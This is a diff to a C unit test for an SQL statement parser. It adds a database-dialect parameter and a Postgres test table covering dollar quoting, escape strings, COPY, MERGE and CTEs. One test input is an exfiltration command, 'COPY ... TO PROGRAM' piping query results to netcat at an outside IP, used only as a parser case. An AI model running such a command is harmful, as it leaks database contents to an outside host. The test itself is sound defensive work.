@@ -3,12 +3,12 @@
 
 #include "agent/app/sql.h"
 
-static void describe(struct fp_buffer *out, const char *text, size_t len, bool truncated)
+static void describe(enum fp_sql_dialect dialect, struct fp_buffer *out, const char *text, size_t len, bool truncated)
 {
 	struct fp_sql_statement statement;
 	size_t n;
 
-	while ((n = fp_sql_read(text, len, truncated, &statement)) > 0) {
+	while ((n = fp_sql_read(dialect, text, len, truncated, &statement)) > 0) {
 		assert_true(n <= len);
 		fp_buffer_add_text(out, out->len ? " | " : "");
 		fp_buffer_add_text(out, statement.verb);
@@ -31,7 +31,7 @@ struct row {
 	const char *text, *expected; /* verb, -table read, +table written, ... may be more */
 };
 
-static void check_rows(const struct row *rows, size_t n, bool truncated)
+static void check_rows(enum fp_sql_dialect dialect, const struct row *rows, size_t n, bool truncated)
 {
 	for (size_t i = 0; i < n; i++) {
 		struct fp_buffer out = FP_BUFFER_INIT;
@@ -42,7 +42,7 @@ static void check_rows(const struct row *rows, size_t n, bool truncated)
 		assert_non_null(copy);
 		memcpy(copy, rows[i].text, len);
 		copy = realloc(copy, len ? len : 1);
-		describe(&out, copy, len, truncated);
+		describe(dialect, &out, copy, len, truncated);
 		if (strcmp(out.data ? out.data : "", rows[i].expected) != 0)
 			print_error("%s\n", rows[i].text);
 		assert_string_equal(out.data ? out.data : "", rows[i].expected);
@@ -51,7 +51,7 @@ static void check_rows(const struct row *rows, size_t n, bool truncated)
 	}
 }
 
-#define CHECK_ROWS(rows, truncated) check_rows(rows, sizeof(rows) / sizeof(rows[0]), truncated)
+#define CHECK_ROWS(rows, truncated) check_rows(FP_SQL_MYSQL, rows, sizeof(rows) / sizeof(rows[0]), truncated)
 
 static void reads(void **state)
 {
@@ -214,6 +214,47 @@ static void truncated(void **state)
 	CHECK_ROWS(rows, true);
 }
 
+#define CHECK_POSTGRES(rows, truncated) check_rows(FP_SQL_POSTGRES, rows, sizeof(rows) / sizeof(rows[0]), truncated)
+
+static void postgres(void **state)
+{
+	static const struct row rows[] = {
+		/* strings: no backslash, but in E''; dollars; a parameter is none */
+		{"SELECT 'a\\' FROM t", "SELECT -t"},
+		{"SELECT E'a\\' FROM u' FROM t", "SELECT -t"},
+		{"SELECT $$ FROM u $$ FROM t WHERE a = $1 AND b = $2", "SELECT -t"},
+		{"SELECT $x$ $$ FROM u $y$ $x$ FROM t", "SELECT -t"},
+		{"SELECT U&'d\\0061t' FROM t", "SELECT -t"},
+		/* comments and signs */
+		{"SELECT a #>> '{b}' FROM t -- FROM u", "SELECT -t"},
+		{"SELECT /* a /* b */ FROM u */ 1 FROM t --", "SELECT -t"},
+		{"SELECT a::text, b @> c FROM ONLY \"T\" t", "SELECT -T"},
+		{"SELECT 1 FROM shop.public.cards", "SELECT -public.cards"},
+		/* words */
+		{"SELECT a IS DISTINCT FROM b FROM t", "SELECT -t"},
+		{"UPDATE ONLY t SET a = b.c FROM b JOIN c USING (d) WHERE e IS DISTINCT FROM f", "UPDATE +t -b -c"},
+		{"DELETE FROM ONLY t USING b WHERE t.a = b.a RETURNING *", "DELETE +t -b"},
+		{"MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN UPDATE SET a = 1", "MERGE +t -s"},
+		{"INSERT INTO t (a) VALUES ($1) ON CONFLICT (a) DO UPDATE SET b = excluded.b RETURNING a", "INSERT +t"},
+		{"COPY t (a, b) FROM STDIN WITH (FORMAT csv)", "COPY +t"},
+		{"COPY public.t TO STDOUT", "COPY -public.t"},
+		{"COPY (SELECT a FROM t) TO PROGRAM 'nc 1.2.3.4 5'", "COPY -t"},
+		{"TRUNCATE TABLE ONLY a, b RESTART IDENTITY CASCADE", "TRUNCATE +a +b"},
+		{"WITH m AS (DELETE FROM a WHERE b RETURNING *) INSERT INTO c SELECT * FROM m", "INSERT +a +c"},
+		{"WITH m AS NOT MATERIALIZED (SELECT 1 FROM a) SELECT * FROM m", "SELECT -a"},
+		{"DECLARE c CURSOR FOR SELECT * FROM t", "DECLARE -t"},
+		{"CREATE TABLE n AS SELECT * FROM o", "CREATE +n -o"},
+		{"REFRESH MATERIALIZED VIEW CONCURRENTLY v", "REFRESH +v"},
+		{"SET search_path TO x; SELECT 1 FROM t", "SET | SELECT -t"},
+	};
+	static const struct row cut[] = {
+		{"SELECT $x$ FROM u", "SELECT ..."}, {"SELECT a FROM ta", "SELECT ..."}, {"INSERT INTO t VALUES (E'a\\", "INSERT +t"},
+	};
+
+	CHECK_POSTGRES(rows, false);
+	CHECK_POSTGRES(cut, true);
+}
+
 static void bounds(void **state)
 {
 	struct fp_sql_statement statement;
@@ -222,13 +263,13 @@ static void bounds(void **state)
 	fp_buffer_add_text(&text, "SELECT * FROM t0");
 	for (int i = 1; i <= FP_SQL_TABLES_MAX; i++)
 		fp_buffer_add_format(&text, ", t%d", i);
-	assert_int_equal(fp_sql_read(text.data, text.len, false, &statement), text.len);
+	assert_int_equal(fp_sql_read(FP_SQL_MYSQL, text.data, text.len, false, &statement), text.len);
 	assert_int_equal(statement.n_tables, FP_SQL_TABLES_MAX);
 	assert_true(statement.incomplete);
 	fp_buffer_clear(&text);
 	for (int i = 0; i < 1000; i++)
 		fp_buffer_add_text(&text, "SELECT * FROM (");
-	assert_int_equal(fp_sql_read(text.data, text.len, false, &statement), text.len);
+	assert_int_equal(fp_sql_read(FP_SQL_MYSQL, text.data, text.len, false, &statement), text.len);
 	assert_true(statement.incomplete);
 	fp_buffer_done(&text);
 }
@@ -238,7 +279,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(reads), cmocka_unit_test(comments), cmocka_unit_test(writes),
 		cmocka_unit_test(table_expressions), cmocka_unit_test(moves_nothing), cmocka_unit_test(several),
-		cmocka_unit_test(truncated), cmocka_unit_test(bounds),
+		cmocka_unit_test(truncated), cmocka_unit_test(postgres), cmocka_unit_test(bounds),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
